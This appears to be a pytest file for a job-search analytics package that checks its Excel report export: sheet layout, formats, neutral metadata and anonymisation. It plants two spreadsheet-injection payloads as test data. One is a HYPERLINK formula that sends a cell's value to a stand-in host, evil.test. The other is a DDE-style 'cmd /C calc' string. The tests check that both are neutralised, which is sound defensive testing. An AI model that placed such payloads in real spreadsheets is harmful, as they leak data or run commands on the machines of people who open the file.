"""The report workbook: one sheet per section, every table in its block equal to its frame
(read back by openpyxl and by python-calamine), formats, no formulas, neutral properties, and
no personal value anywhere in an anonymised workbook."""

from __future__ import annotations

import datetime as dt
import getpass
import math
import re
import socket
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import numpy as np
import openpyxl
import pandas as pd
import pytest
import python_calamine as pc

import jobsearch_analytics as jsa
from jobsearch_analytics.io.writers import neutralise
from jobsearch_analytics.report import anonymize, build_report, write_report_xlsx
from jobsearch_analytics.report.client import ClientReport, ReportTable, Section

from .conftest import TODAY, write_client

SECRET = "coach-secret-for-export-tests"
HYPERLINK = '=HYPERLINK("http://evil.test/?"&A1,"click me")'
CMD = "+cmd|' /C calc'!A0"
PERCENT = {"rate", "p", "p_reply", "share", "survival", "cif", "benchmark", "ci_coverage"}


@pytest.fixture(scope="module")
def hostile_tracker(tmp_path_factory) -> Path:
    """A client tracker with formula-like text typed in (as text, the way a person types it)."""
    path = tmp_path_factory.mktemp("hostile") / "hostile.xlsx"
    planted = [
        [HYPERLINK, "Analyst", dt.datetime(2024, 3, 1), "Applied", "LinkedIn"],
        ["Acme", CMD, dt.datetime(2024, 3, 2), "Applied", "Referral"],
    ]
    write_client(path, 41, extra_rows=[row + [None] * 7 for row in planted])
    wb = openpyxl.load_workbook(path)
    for row in wb.active.iter_rows():
        for c in row:
            if c.data_type == "f":  # openpyxl took the typed text for a formula: make it text
                c.data_type = "s"
    wb.save(path)
    return path


@pytest.fixture(scope="module")
def report(hostile_tracker) -> ClientReport:
    return build_report(jsa.load(hostile_tracker), today=TODAY, client="hostile", charts=False)


@pytest.fixture(scope="module")
def workbook(report, tmp_path_factory) -> Path:
    return write_report_xlsx(report, tmp_path_factory.mktemp("wb") / "r.report.xlsx")


# -- an independent reading of the workbook -------------------------------------------------


def grids(path: Path, reader: str) -> dict[str, list[list[object]]]:
    """Every sheet as rows of values (None for an empty cell), by openpyxl or by calamine."""
    if reader == "openpyxl":
        wb = openpyxl.load_workbook(path)
        return {ws.title: [list(r) for r in ws.iter_rows(values_only=True)] for ws in wb}
    book = pc.CalamineWorkbook.from_path(str(path))
    return {
        name: [
            [None if v == "" else v for v in r] for r in book.get_sheet_by_name(name).to_python()
        ]
        for name in book.sheet_names
    }


def expected_title(t: ReportTable) -> str:
    # The spec: the caption; the table's name when the HTML shows another view of it; the
    # "(not shown)" of an HTML-only remark dropped; "(no rows)" after an empty table's title.
    title = t.name[:1].upper() + t.name[1:] if t.display is not None else (t.caption or t.name)
    title = title.removesuffix(" (not shown)")
    return title if len(t.frame) else f"{title} (no rows)"


def same(got: object, want: object) -> bool:
    if isinstance(want, np.generic):
        want = want.item()
    if want is None or want is pd.NA or want is pd.NaT:
        return got is None
    if (isinstance(want, float) and math.isnan(want)) or want == "":
        return got in (None, "")  # calamine reads an empty string as an empty cell
    if isinstance(want, bool):
        return got is want
    if isinstance(want, pd.Timestamp | dt.date):
        return got is not None and pd.Timestamp(got) == pd.Timestamp(want)
    if isinstance(want, int | float):
        if math.isinf(want):
            return got == neutralise(str(want))
        ok = isinstance(got, int | float) and not isinstance(got, bool)
        return ok and got == pytest.approx(want, rel=1e-15, abs=0)
    return got == neutralise(str(want))


def expected_frame(t: ReportTable) -> pd.DataFrame:
    """The spec: a table as the workbook holds it, under its own column names. An application
    is named ``Company — Role`` in the id's place (company and role are not repeated)."""
    frame = t.frame
    if "application_id" not in frame.columns or "company" not in frame.columns:
        return frame

    def name(row: pd.Series) -> str:
        parts = [str(row[c]).strip() for c in ("company", "role") if c in row and pd.notna(row[c])]
        return " — ".join(p for p in parts if p) or row["application_id"]

    labels = [name(row) for _, row in frame.iterrows()]
    out = frame.drop(columns=[c for c in ("company", "role") if c in frame.columns])
    out["application_id"] = labels
    return out


def human(header: object) -> bool:
    """A header a person reads: words, no snake_case name."""
    return isinstance(header, str) and "_" not in header and header.strip() == header != ""


def check_block(grid: list[list[object]], t: ReportTable, after: int) -> int:
    """Find ``t``'s title row below row ``after``; compare header and cells; return the row."""
    title = expected_title(t)
    top = next(i for i in range(after + 1, len(grid)) if grid[i] and grid[i][0] == title)
    frame = expected_frame(t)
    columns = [str(c) for c in frame.columns]
    headers = grid[top + 1][: len(columns)]
    assert all(human(h) for h in headers), (title, headers)
    assert len(set(headers)) == len(headers), (title, headers)
    for i, values in enumerate(frame.itertuples(index=False, name=None)):
        row = grid[top + 2 + i]
        for j, want in enumerate(values):
            assert same(row[j], want), (title, i, columns[j], row[j], want)
        assert all(v is None for v in row[len(columns) :])
    end = top + 2 + len(t.frame)
    assert end == len(grid) or all(v is None for v in grid[end]), title  # a blank row after
    return top


@pytest.mark.parametrize("reader", ["openpyxl", "calamine"])
def test_one_sheet_per_section_each_table_in_its_block(report, workbook, reader) -> None:
    sheets = grids(workbook, reader)
    assert list(sheets) == [s.title for s in report.sections]
    assert all(s.tables for s in report.sections)  # every section computed here
    for section in report.sections:
        grid = sheets[section.title]
        assert grid[0][0] == section.title
        top = 0
        for t in section.tables:  # in order, each below the one before
            top = check_block(grid, t, top)


def test_section_text_and_whose_report_are_on_the_sheet(report, workbook) -> None:
    sheets = grids(workbook, "openpyxl")
    for section in report.sections:
        column_a = [r[0] for r in sheets[section.title] if r and isinstance(r[0], str)]
        text = " ".join(column_a)
        assert f"As of {TODAY}" in column_a[1]
        for paragraph in (*section.text, *section.notes):
            assert str(neutralise(paragraph)) in text or paragraph in text, paragraph


def test_formats_percent_dates_money(report, workbook) -> None:
    wb = openpyxl.load_workbook(workbook)
    checked = {"percent": 0, "date": 0}
    for section in report.sections:
        ws = wb[section.title]
        titles = {c.value: c.row for c in ws["A"] if isinstance(c.value, str)}
        for t in section.tables:
            if t.frame.empty:
                continue
            header_row = titles[expected_title(t)] + 1
            for j, column in enumerate(expected_frame(t).columns, start=1):
                cells = [ws.cell(header_row + 1 + i, j) for i in range(len(t.frame))]
                written = [c for c in cells if c.value is not None]
                if column in PERCENT:
                    assert {c.number_format for c in written} <= {"0.0%"}, (t.name, column)
                    checked["percent"] += len(written)
                if pd.api.types.is_datetime64_any_dtype(t.frame[column]):
                    assert all(isinstance(c.value, dt.datetime) for c in written)
                    assert {c.number_format for c in written} <= {"yyyy-mm-dd"}
                    checked["date"] += len(written)
                if column in ("mid_median", "offer_final"):
                    assert {c.number_format for c in written} <= {"#,##0"}
    assert checked["percent"] > 50 and checked["date"] > 10


def test_headers_are_words_and_applications_are_named(report, workbook) -> None:
    wb = openpyxl.load_workbook(workbook)
    headers: dict[str, list[str]] = {}
    for section in report.sections:
        ws = wb[section.title]
        rows = {c.value: c.row for c in ws["A"] if isinstance(c.value, str)}
        for t in section.tables:
            row = rows[expected_title(t)] + 1
            headers[t.name] = [c.value for c in ws[row] if c.value is not None]
    assert headers["rates"] == ["Outcome", "n", "k", "Rate", "95% low", "95% high", "Small group"]
    assert headers["posted"][3] == "Midpoint (low)" and headers["posted"][5] == "Midpoint (high)"
    assert "Annual min (low)" in headers["posted"] and "Annual max (high)" in headers["posted"]
    assert headers["actions"][0] == "Application"
    assert "company" not in " ".join(headers["actions"]).casefold()
    # Every application named in the to-do list reads "Company — Role", never its id.
    todo = report.section("next").tables[0].frame
    ws = wb[report.section("next").title]
    top = {c.value: c.row for c in ws["A"] if isinstance(c.value, str)}["To do"] + 2
    shown = [ws.cell(top + i, 1).value for i in range(len(todo))]
    want = [f"{c} — {r}" for c, r in zip(todo["company"], todo["role"], strict=True)]
    assert len(shown) >= 5 and shown == [neutralise(w) for w in want]
    assert not any("#" in str(v) for v in shown)


def test_one_paragraph_per_cell(report, workbook) -> None:
    wb = openpyxl.load_workbook(workbook)
    for section in report.sections:
        ws = wb[section.title]
        column_a = [c.value for c in ws["A"] if isinstance(c.value, str)]
        for paragraph in (*section.text, *section.notes):
            assert str(neutralise(paragraph)) in column_a, paragraph  # whole, in one cell
        for row in ws.iter_rows(min_row=3):
            cell = row[0]
            if cell.value in section.text:
                assert cell.alignment.wrap_text, (section.title, cell.coordinate)


def test_interval_of_days_is_not_a_percentage(tmp_path: Path) -> None:
    days = pd.DataFrame({"median_days": [14.0], "ci_low": [9.0], "ci_high": [21.0]})
    rates = pd.DataFrame({"rate": [0.25], "ci_low": [0.1], "ci_high": [0.5]})
    r = ClientReport(
        "T",
        "",
        TODAY,
        0.95,
        {},
        (
            Section(
                "timing",
                "Timing",
                tables=(ReportTable("days", days, caption="Days"), ReportTable("r", rates)),
            ),
        ),
    )
    ws = openpyxl.load_workbook(write_report_xlsx(r, tmp_path / "d.xlsx"))["Timing"]
    rows = {c.value: c.row for c in ws["A"] if isinstance(c.value, str)}
    day_row, rate_row = rows["Days"] + 2, rows["r"] + 2
    assert [ws.cell(day_row - 1, j).value for j in (1, 2, 3)] == [
        "Median days",
        "95% low",
        "95% high",
    ]
    assert [ws.cell(day_row, j).number_format for j in (1, 2, 3)] == ["General", "0.0", "0.0"]
    assert [ws.cell(rate_row, j).number_format for j in (1, 2, 3)] == ["0.0%"] * 3


def test_values_only_and_planted_formulas_neutralised(workbook, assert_no_live_parts) -> None:
    wb = openpyxl.load_workbook(workbook)
    found: dict[str, list[str]] = {HYPERLINK: [], CMD: []}
    for ws in wb.worksheets:
        assert ws.freeze_panes is None
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f" and c.hyperlink is None, (ws.title, c.coordinate)
                for planted, seen in found.items():
                    if isinstance(c.value, str) and planted in c.value:
                        seen.append(c.value)
    for planted, seen in found.items():
        assert seen, planted  # the planted text is in the workbook (next steps, data quality)
        assert all(v.startswith("'") or not v.lstrip().startswith(("=", "+")) for v in seen)
        # Whole in a cell of its own (neutralised), or after the company in an application's
        # name, where it no longer starts the cell.
        assert any(v.startswith(neutralise(planted)) or f" — {planted}" in v for v in seen)
    assert_no_live_parts(workbook)


def _doc_texts(path: Path) -> dict[str, list[str]]:
    out = {}
    with zipfile.ZipFile(path) as z:
        for name in ("docProps/core.xml", "docProps/app.xml"):
            root = ElementTree.fromstring(z.read(name))
            out[name] = [e.text for e in root.iter() if e.text]
    return out


def test_document_properties_are_neutral_and_dated_by_the_report(report, workbook) -> None:
    props = openpyxl.load_workbook(workbook).properties
    assert (props.creator, props.lastModifiedBy) == ("jobsearch-analytics", "jobsearch-analytics")
    assert props.title == "Job search report"  # not the report's title, which names the client
    assert props.created == props.modified == dt.datetime.fromisoformat(TODAY)
    texts = _doc_texts(workbook)
    machine = {getpass.getuser(), socket.gethostname(), Path.home().name} - {"", "root"}
    for name, values in texts.items():
        for value in values:
            assert "hostile" not in value.casefold(), (name, value)
            for word in machine:
                assert not re.search(rf"\b{re.escape(word)}\b", value, re.I), (name, value)
    # app.xml lists the sheets (the section titles) and nothing else that is free text.
    app = texts["docProps/app.xml"]
    assert set(app) - {s.title for s in report.sections} <= {
        "Microsoft Excel",
        "Worksheets",
        "0",
        "false",
        "12.0000",
        str(len(report.sections)),
    }


def test_same_report_same_bytes(report, tmp_path: Path) -> None:
    a = write_report_xlsx(report, tmp_path / "a.xlsx").read_bytes()
    b = write_report_xlsx(report, tmp_path / "b.xlsx").read_bytes()
    assert a == b


def test_a_section_without_tables_keeps_its_sheet_and_says_why(hostile_tracker, tmp_path) -> None:
    search = jsa.load(hostile_tracker)
    broken = jsa.JobSearch(
        search.applications.drop(columns=["salary_annual_min"]), search.events, search.report
    )
    r = build_report(broken, today=TODAY, charts=False)
    assert not r.section("salary").tables
    sheets = grids(write_report_xlsx(r, tmp_path / "b.xlsx"), "calamine")
    assert list(sheets) == [s.title for s in r.sections]
    column_a = [row[0] for row in sheets["Salary"] if row and row[0]]
    assert any("could not be computed" in str(v) for v in column_a)
    assert "This section has no table." in column_a
    assert r.section("funnel").tables and "Stages reached" in [
        row[0] for row in sheets["Funnel"] if row
    ]


def test_anonymised_workbook_has_no_personal_value_in_any_part(client_folder, tmp_path) -> None:
    folder, personal = client_folder
    source = folder / "margaret-hollis.xlsx"
    search, client = anonymize(
        jsa.load(source), SECRET, client="margaret-hollis", extra_values=(source.name,)
    )
    r = build_report(search, today=TODAY, client=client, charts=False, anonymized=True)
    path = write_report_xlsx(r, tmp_path / f"{client}.report.xlsx")
    values = {v for group in personal.values() for v in group if len(v) >= 4}
    assert len(values) > 40
    machine = {getpass.getuser(), socket.gethostname()} - {"", "root"}
    with zipfile.ZipFile(path) as z:
        parts = {name: z.read(name).decode("utf-8") for name in z.namelist()}
    assert "xl/sharedStrings.xml" in parts and "docProps/core.xml" in parts
    for name, text in parts.items():
        # xlsxwriter escapes &, <, > (and " in attributes): compare with the text unescaped.
        plain = text.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", '"')
        plain = plain.replace("&amp;", "&").casefold()
        for value in values:
            assert value.casefold() not in plain, (name, value)
    for name in ("docProps/core.xml", "docProps/app.xml"):
        for value in _doc_texts(path)[name]:
            assert client not in value and "margaret" not in value.casefold()
            assert not any(re.search(rf"\b{re.escape(w)}\b", value, re.I) for w in machine)
    # The pseudonymised report is still there: whose it is, and the companies as pseudonyms.
    shared = parts["xl/sharedStrings.xml"]
    assert client in shared and "Company-" in shared and "Anonymised" in shared
